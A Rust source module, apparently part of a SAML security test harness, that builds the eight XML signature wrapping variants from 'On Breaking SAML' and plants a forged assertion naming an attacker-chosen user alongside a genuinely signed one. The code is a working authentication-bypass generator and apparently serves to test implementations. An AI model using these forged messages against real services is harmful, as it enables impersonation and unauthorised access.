//! Signature wrapping: the eight variants of "On Breaking SAML" (Somorovsky and others, 2012), made from a message that is
//! genuinely signed.

use super::{element, escape, without_element};

/// Wraps a message whose Response (1, 2) or Assertion (3 to 8) is signed. A reader who takes the wrong element sees `evil`.
pub(super) fn wrap(xml: &str, variant: u8, evil: &str) -> String {
    let signature = element(xml, "ds:Signature");
    let unsigned = without_element(xml, "ds:Signature");
    if variant <= 2 {
        // The original Response moves into (1) or before (2) the signature of an evil one.
        let evil_response = renamed(&renamed_user(&unsigned, evil), "<samlp:Response ");
        let evil_response = renamed(&evil_response, "<saml:Assertion ");
        let issuer_end = evil_response.find("</saml:Issuer>").expect("an Issuer") + "</saml:Issuer>".len();
        let inner = match variant {
            1 => signature.replace("</ds:Signature>", &format!("{unsigned}</ds:Signature>")),
            _ => format!("{unsigned}{signature}"),
        };
        return format!("{}{inner}{}", &evil_response[..issuer_end], &evil_response[issuer_end..]);
    }
    let original = element(xml, "saml:Assertion");
    let original_unsigned = without_element(&original, "ds:Signature");
    let evil_assertion = renamed(&renamed_user(&original_unsigned, evil), "<saml:Assertion ");
    let issuer_end = evil_assertion.find("</saml:Issuer>").expect("an Issuer") + "</saml:Issuer>".len();
    let evil_with = |inner: &str| format!("{}{inner}{}", &evil_assertion[..issuer_end], &evil_assertion[issuer_end..]);
    let inside_signature = |inner: &str| signature.replace("</ds:Signature>", &format!("{inner}</ds:Signature>"));
    let assertions = match variant {
        3 => format!("{evil_assertion}{original}"),
        4 => evil_assertion.replace("</saml:Assertion>", &format!("{original}</saml:Assertion>")),
        5 => format!("{}{original_unsigned}", evil_with(&signature)),
        6 => evil_with(&inside_signature(&original_unsigned)),
        7 => {
            let extensions = format!("<samlp:Extensions>{evil_assertion}</samlp:Extensions>");
            return xml.replacen("<samlp:Status>", &format!("{extensions}<samlp:Status>"), 1);
        }
        8 => evil_with(&inside_signature(&format!("<ds:Object>{original_unsigned}</ds:Object>"))),
        _ => panic!("there are eight variants"),
    };
    xml.replace(&original, &assertions)
}

fn renamed_user(xml: &str, evil: &str) -> String {
    let name_id = element(xml, "saml:NameID");
    let start = name_id.find('>').expect("a tag ends") + 1;
    xml.replace(&name_id, &format!("{}{}</saml:NameID>", &name_id[..start], escape(evil)))
}

/// Gives the element that starts so another ID.
fn renamed(xml: &str, element: &str) -> String {
    let start = xml.find(element).expect("the element");
    let id = start + xml[start..].find(" ID=\"").expect("an ID") + " ID=\"".len();
    format!("{}_evil{}", &xml[..id], &xml[id..])
}
